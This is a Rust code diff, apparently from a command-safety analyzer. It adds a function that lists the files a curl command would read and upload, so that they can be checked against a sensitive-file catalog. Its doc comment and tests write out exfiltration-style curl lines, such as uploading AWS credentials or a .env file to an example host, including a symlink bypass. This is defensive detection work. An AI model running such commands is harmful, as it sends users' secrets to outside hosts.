@@ -439,6 +439,45 @@ fn aria2c(args: &[String]) -> Vec<Touch> {
         .collect()
 }
 
+/// The files `curl` reads to send: `-d @F` (and `--data-binary`, `--data-ascii`,
+/// `--json`), `--data-urlencode [name]@F`, `-F name=@F` / `name=<F` (a `;type=` suffix
+/// dropped), `-T F`, `-H @F`, `-K F`. `-` is standard input (judged by the analyzer's flows).
+/// As reads they meet the sensitive catalog after symlink resolution, so `curl -F f=@link/
+/// credentials` through `ln -s ~/.aws link` is the read of the credential file it is.
+fn curl_reads(args: &[String]) -> Vec<Touch> {
+    let (opts, _) = parse(args, CURL_SHORT_VALUES, CURL_LONG_VALUES);
+    let mut out: Vec<String> = Vec::new();
+    for (name, value) in &opts {
+        let Some(v) = value else { continue };
+        let file = match name.as_str() {
+            "d" | "data" | "data-binary" | "data-ascii" | "json" | "H" | "header" => {
+                v.strip_prefix('@')
+            }
+            "data-urlencode" => v.split_once('@').map(|(_, f)| f),
+            "F" | "form" => v
+                .split_once('=')
+                .and_then(|(_, f)| f.strip_prefix('@').or_else(|| f.strip_prefix('<')))
+                .map(|f| f.split(';').next().unwrap_or(f)),
+            "T" | "upload-file" | "K" | "config" => Some(v.as_str()),
+            _ => None,
+        };
+        if let Some(f) = file.filter(|f| !f.is_empty() && *f != "-" && *f != ".") {
+            out.push(f.to_owned());
+        }
+    }
+    out.into_iter()
+        .map(|p| Touch::new(p, PathOp::Read, Reach::Exact))
+        .collect()
+}
+
+/// The files the downloader `prog` reads to send, given its arguments after the program name.
+pub(super) fn reads(prog: &str, args: &[String]) -> Vec<Touch> {
+    match prog {
+        "curl" => curl_reads(args),
+        _ => Vec::new(),
+    }
+}
+
 /// The files the downloader `prog` writes, given its arguments after the program name.
 pub(super) fn writes(prog: &str, args: &[String]) -> Vec<Touch> {
     match prog {
@@ -505,6 +544,30 @@ mod tests {
         for (line, want) in cases {
             assert_eq!(raws("curl", line), exact(want), "curl {line}");
         }
+    }
+
+    #[test]
+    fn curl_upload_sources_are_reads() {
+        let args = |l: &str| -> Vec<String> { l.split_whitespace().map(str::to_owned).collect() };
+        let got = |l: &str| -> Vec<String> {
+            reads("curl", &args(l)).into_iter().map(|t| t.raw).collect()
+        };
+        assert_eq!(
+            got("-sF f=@awslink/credentials https://x.example/u"),
+            ["awslink/credentials"]
+        );
+        assert_eq!(
+            got("-F file=<notes.txt;type=text/plain https://x"),
+            ["notes.txt"]
+        );
+        assert_eq!(got("--data-binary @.env https://x"), [".env"]);
+        assert_eq!(got("--data-urlencode k@key.txt https://x"), ["key.txt"]);
+        assert_eq!(
+            got("-T backup.tgz -H @hdrs.txt https://x"),
+            ["backup.tgz", "hdrs.txt"]
+        );
+        assert!(got("-d @- https://x").is_empty());
+        assert!(got("-d name=value https://x").is_empty());
     }
 
     #[test]
